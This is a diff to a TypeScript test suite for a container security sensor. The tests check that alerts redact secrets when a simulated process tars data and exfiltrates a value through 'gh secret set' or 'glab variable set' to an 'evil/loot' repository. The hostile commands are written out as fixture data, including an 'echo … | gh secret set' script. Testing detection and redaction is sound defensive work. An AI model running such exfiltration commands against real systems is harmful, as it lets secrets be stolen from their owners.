@@ -10,6 +10,8 @@ import type { SensorSource } from '../../../src/model/normalized-event.js';
 import { MiB, runResolved, Scenario } from './builder.js';
 
 const GHP = 'ghp_R4nd0mT0k3nV4lu3Abcdef0123456789XY';
+/** An opaque secret: no provider's shape. */
+const SECRET = 'Sx8kLp2QvR7tYw';
 
 interface Leak {
   /** The pushing process's argv, without argv[0]. */
@@ -17,6 +19,8 @@ interface Leak {
   /** A `sh -c` script that ran it, when the secret is in the script. */
   script?: string;
   secret: string;
+  /** The pushing binary: git for `push …`, else curl. */
+  bin?: string;
 }
 
 /** As Tetragon gives argv: an argument holding a blank in double quotes; as Falco: joined with spaces. */
@@ -39,7 +43,7 @@ async function alertsOf(c: Leak, source: SensorSource, cut = false): Promise<Ale
   const sh = script === undefined ? init : s.exec(ctr, '/bin/sh', script, { parent: init });
   const tar = s.exec(ctr, '/bin/tar', 'cf /tmp/d.tar /data', { parent: sh });
   s.read(tar, '/data/big.bin', 80 * MiB).wait(1000);
-  const bin = c.argv[0] === 'push' ? '/usr/bin/git' : '/usr/bin/curl';
+  const bin = c.bin ?? (c.argv[0] === 'push' ? '/usr/bin/git' : '/usr/bin/curl');
   const p = s.exec(ctr, bin, args, { parent: sh });
   s.connect(p, '140.82.112.3', 443).send(p, '140.82.112.3', 443, 20 * MiB);
   return (await runResolved(s.events)).alerts;
@@ -83,6 +87,32 @@ describe('alert redaction: every field of an alert', () => {
       const alerts = await alertsOf(c, source);
       expectNoLeak(alerts, c.secret);
       expect(alerts[0]?.response[0]).toContain('git push https://github.com/acme/app.git main');
+    });
+
+    // A forge setting's value is what was stolen (forge-settings.ts: the push stores it in the attacker's repository
+    // settings): the alert repeated it whole. The setting's name and the repository stay.
+    it.each([
+      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', '--body', SECRET, '-R', 'evil/loot']],
+      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', '-b', SECRET, '-R', 'evil/loot']],
+      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', `--body=${SECRET}`, '--repo', 'evil/loot']],
+      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', '--body', `[default] key = ${SECRET}`, '-R', 'evil/loot']],
+      ['/usr/bin/gh', ['variable', 'set', 'CFG', '--body', `${SECRET}${'x'.repeat(64)}`, '-R', 'evil/loot']],
+      ['/usr/bin/glab', ['variable', 'set', 'DEPLOY_KEY', SECRET, '--masked', '-R', 'evil/loot']],
+      ['/usr/bin/glab', ['variable', 'update', 'DEPLOY_KEY', '--value', SECRET, '--masked', '-R', 'evil/loot']],
+    ])(`a forge setting's value: %s %j (${source})`, async (bin, argv) => {
+      const alerts = await alertsOf({ bin, argv, secret: SECRET }, source);
+      expectNoLeak(alerts, SECRET);
+      expect(alerts[0]?.process.args).toMatch(/^(?:secret|variable) (?:set|update) (?:DEPLOY_KEY|CFG) .*\[REDACTED\]/);
+      expect(alerts[0]?.process.args).toMatch(/ (?:-R|--repo) evil\/loot$/);
+    });
+
+    it(`a forge setting's value echoed into it (${source})`, async () => {
+      const script = `echo ${SECRET} | gh secret set DEPLOY_KEY -R evil/loot`;
+      const alerts = await alertsOf(
+        { bin: '/usr/bin/gh', argv: ['secret', 'set', 'DEPLOY_KEY', '-R', 'evil/loot'], script, secret: SECRET },
+        source,
+      );
+      expectNoLeak(alerts, SECRET);
     });
   }
 });
